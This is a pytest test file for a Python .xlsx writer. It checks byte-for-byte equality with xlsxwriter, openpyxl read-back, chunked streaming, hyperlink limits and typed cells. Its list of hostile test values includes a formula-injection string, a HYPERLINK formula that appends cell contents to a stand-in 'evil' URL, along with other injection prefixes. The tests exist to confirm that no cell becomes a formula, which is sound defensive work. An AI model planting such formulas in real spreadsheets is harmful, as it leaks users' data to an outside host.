"""The column-at-once .xlsx writer against xlsxwriter's own cell-by-cell output, and against openpyxl.

The worksheet XML must be byte for byte what xlsxwriter writes in ``constant_memory`` mode for the
same cells (the writer the worklist used before), hostile values included; openpyxl must read
every value back as it went in.
"""

from __future__ import annotations

import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
import xlsxwriter

from datavask.connectors import xlsx
from datavask.connectors.xlsx import Sheet, write_xlsx

HOSTILE = [
    "plain",
    None,
    "",
    '=HYPERLINK("http://evil/?"&A1)',
    "+4512345678",
    "-2+3",
    "@SUM(A1)",
    " leading space",
    "trailing tab\t",
    "line\nbreak",
    "carriage\rreturn",
    "bell\x07 and nul\x00",
    "_x0041_ looks like an escape",
    "<b>&amp;</b> \"quoted\" 'single'",
    "Ærø Å ø 😀",
    "\ufffe\uffff",
    "x" * 40_000,
]


def _frame() -> pl.DataFrame:
    n = len(HOSTILE)
    return pl.DataFrame(
        {
            "text": HOSTILE,
            "link": [
                None if i % 3 else f"https://datacvr.virk.dk/enhed/virksomhed/{i:08d}"
                for i in range(n)
            ],
            "score": [None, 0.1 + 0.2, 1.0, 1e-7, 123456789.125, 2.0 / 3.0, *([0.5] * (n - 6))],
            "count": list(range(n)),
            "=weird header<&>": ["z"] * n,
        }
    )


def _xlsxwriter_book(path: Path, sheets: list[Sheet]) -> None:
    """The worklist's former writer: xlsxwriter, constant_memory, one call per cell."""
    options = {"strings_to_formulas": False, "strings_to_urls": False,
               "strings_to_numbers": False, "constant_memory": True}  # fmt: skip
    book = xlsxwriter.Workbook(str(path), options)
    header = book.add_format(
        {"bold": True, "bg_color": "#E8EDF3", "bottom": 1, "text_wrap": True, "valign": "top"}
    )
    wrap = book.add_format({"valign": "top"})
    for spec in sheets:
        frame = spec.frame
        sheet = book.add_worksheet(spec.name)
        for i, width in enumerate(spec.widths):
            sheet.set_column(i, i, width, wrap)
        sheet.write_row(0, 0, frame.columns, header)
        sheet.freeze_panes(1, 0)
        sheet.autofilter(0, 0, max(frame.height, 1), max(frame.width - 1, 0))
        link = frame.columns.index(spec.link) if spec.link in frame.columns else None
        for r, row in enumerate(frame.iter_rows(), start=1):
            for c, value in enumerate(row):
                if value is None:
                    continue
                if c == link and r <= xlsx.MAX_URLS:
                    sheet.write_url(r, c, value, string=value)
                elif isinstance(value, str):
                    text = (
                        value if len(value) <= xlsx.MAX_CELL else value[: xlsx.MAX_CELL - 1] + "…"
                    )
                    sheet.write_string(r, c, text)
                else:
                    sheet.write(r, c, value)
    book.close()


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as book:
        return {name: book.read(name) for name in book.namelist() if "docProps" not in name}


def test_sheets_are_byte_for_byte_what_xlsxwriter_writes(tmp_path: Path) -> None:
    frame = _frame()
    sheets = [
        Sheet("Første ark", frame, widths=[12, 60, 60, 9.5, 30], link="link"),
        Sheet("empty", frame.clear(), widths=[10] * 5, link="link"),
        Sheet("no link", frame.drop("link"), widths=[20, 20, 8, 8]),
    ]
    ours = _parts(write_xlsx(tmp_path / "ours.xlsx", sheets))
    _xlsxwriter_book(tmp_path / "theirs.xlsx", sheets)
    theirs = _parts(tmp_path / "theirs.xlsx")
    for name in theirs:
        if name.startswith(("xl/worksheets/", "xl/styles", "xl/workbook", "xl/theme")):
            assert ours[name] == theirs[name], name


def test_rows_built_ahead_come_out_in_sheet_and_row_order(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Chunks of two rows over five sheets: the builders run ahead across every sheet's end.
    monkeypatch.setattr(xlsx, "CHUNK_ROWS", 2)
    frame = _frame()
    sheets = [
        Sheet(f"ark {i}", frame.slice(i * 3, 7), widths=[12, 60, 60, 9.5, 30], link="link")
        for i in range(5)
    ]
    ours = _parts(write_xlsx(tmp_path / "ours.xlsx", sheets))
    _xlsxwriter_book(tmp_path / "theirs.xlsx", sheets)
    theirs = _parts(tmp_path / "theirs.xlsx")
    assert [n for n in ours if n.startswith("xl/worksheets/sheet")] == [
        f"xl/worksheets/sheet{n}.xml" for n in range(1, 6)
    ]
    for name in theirs:
        if name.startswith("xl/worksheets/"):
            assert ours[name] == theirs[name], name


def test_a_chunk_that_fails_fails_the_write(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx, "CHUNK_ROWS", 1)
    built = []
    rows_xml = xlsx._rows_xml

    def failing(frame: pl.DataFrame, **kwargs: Any) -> bytes:
        built.append(kwargs["first_row"])
        if kwargs["first_row"] == 4:
            raise RuntimeError("disk on fire")
        return rows_xml(frame, **kwargs)

    monkeypatch.setattr(xlsx, "_rows_xml", failing)
    with pytest.raises(RuntimeError, match="disk on fire"):
        write_xlsx(tmp_path / "book.xlsx", [Sheet("s", _frame(), widths=[10] * 5)])
    # what had not started when the error came out is dropped, not built
    assert len(built) < _frame().height


def test_values_read_back_as_written_and_nothing_is_a_formula(tmp_path: Path) -> None:
    frame = _frame()
    path = write_xlsx(tmp_path / "book.xlsx", [Sheet("s", frame, widths=[10] * 5, link="link")])
    sheet = openpyxl.load_workbook(path)["s"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == tuple(frame.columns)
    texts = [row[0] for row in rows[1:]]
    expected: list[Any] = [
        v if v is None or len(v) <= xlsx.MAX_CELL else v[: xlsx.MAX_CELL - 1] + "…" for v in HOSTILE
    ]
    # openpyxl gives back Excel's _xHHHH_ escapes as written; decode them as Excel does
    decoded = [_excel_unescape(t) if isinstance(t, str) else t for t in texts]
    assert decoded == [None if v is None else v for v in expected]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # numbers as xlsxwriter's write_number gives them to Excel: 16 significant digits
    scores = [None, 0.1 + 0.2, 1.0, 1e-7, 123456789.125, 2.0 / 3.0]
    assert [row[2] for row in rows[1:7]] == [None] + [float(f"{v:.16G}") for v in scores[1:]]
    links = [c.hyperlink.target for c in sheet["B"] if c.hyperlink]
    assert links == [v for v in frame["link"] if v]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:E{frame.height + 1}"


def test_links_stop_at_excels_limit_and_long_sheets_stream(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx, "MAX_URLS", 5)
    monkeypatch.setattr(xlsx, "CHUNK_ROWS", 4)
    frame = pl.DataFrame(
        {"url": [f"https://example.org/{i}" for i in range(11)], "n": list(range(11))}
    )
    path = write_xlsx(tmp_path / "book.xlsx", [Sheet("s", frame, widths=[30, 8], link="url")])
    sheet = openpyxl.load_workbook(path)["s"]
    assert [c.value for c in sheet["A"]][1:] == frame["url"].to_list()
    assert [c.row for c in sheet["A"] if c.hyperlink] == [2, 3, 4, 5, 6]


def _excel_unescape(text: str) -> str:
    import re

    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def test_typed_cells_are_numbers_with_their_own_formats_or_text(tmp_path: Path) -> None:
    """A column of typed cells, as the re-import writes a hand-made sheet back: a number with
    its format where the cell has one (``00042``, a date, ``#,##0.00``), its text elsewhere —
    never a formula — and the header as typed (``By `` keeps its space)."""
    frame = pl.DataFrame(
        {
            "text": ["00042", "29-03-2023", "46540.37", "=1+1", None, "+4512345678"],
            "number": ["42", "45014", "46540.37", None, None, None],
            "format": ["00000", "DD-MM-YYYY", '#,##0.00 "kr."', None, None, None],
        }
    )
    cells = frame.select(
        xlsx.typed_cells(pl.col("text"), pl.col("number"), pl.col("format")).alias("cell"),
        pl.col("text").alias("plain"),
    )
    path = write_xlsx(
        tmp_path / "book.xlsx", [Sheet("s", cells, widths=[10, 10], header=["By ", "Navn"])]
    )
    sheet = openpyxl.load_workbook(path)["s"]
    assert [c.value for c in sheet[1]] == ["By ", "Navn"]
    kinds = [(c.value, c.data_type, c.number_format) for c in sheet["A"][1:]]
    assert kinds == [
        (42, "n", "00000"),
        (datetime(2023, 3, 29), "d", "DD-MM-YYYY"),
        (46540.37, "n", '#,##0.00 "kr."'),
        ("=1+1", "s", "General"),
        (None, "n", "General"),
        ("+4512345678", "s", "General"),
    ]
    assert [c.value for c in sheet["B"][1:]] == frame["text"].to_list()
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
